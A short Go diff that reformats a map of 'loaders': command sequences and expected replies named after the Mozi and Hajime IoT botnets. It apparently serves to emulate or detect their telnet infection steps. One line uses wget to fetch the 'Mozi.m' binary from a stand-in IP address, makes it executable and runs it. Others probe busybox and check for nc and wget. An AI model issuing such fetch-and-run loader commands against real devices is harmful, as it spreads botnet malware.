@@ -45,7 +45,10 @@ var loaders = map[string][]step{
 		{"cd /tmp; wget http://198.51.100.9:41000/Mozi.m; chmod 777 Mozi.m; ./Mozi.m; /bin/busybox MOZI\r\n", "MOZI: applet not found"},
 	},
 	"hajime": {
-		{"enable\r\n", ""}, {"system\r\n", ""}, {"shell\r\n", ""}, {"sh\r\n", ""},
+		{"enable\r\n", ""},
+		{"system\r\n", ""},
+		{"shell\r\n", ""},
+		{"sh\r\n", ""},
 		{"cat /proc/mounts; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
 		{"cd /dev; cat .s || cp /bin/echo .s; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
 		{"nc; wget; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
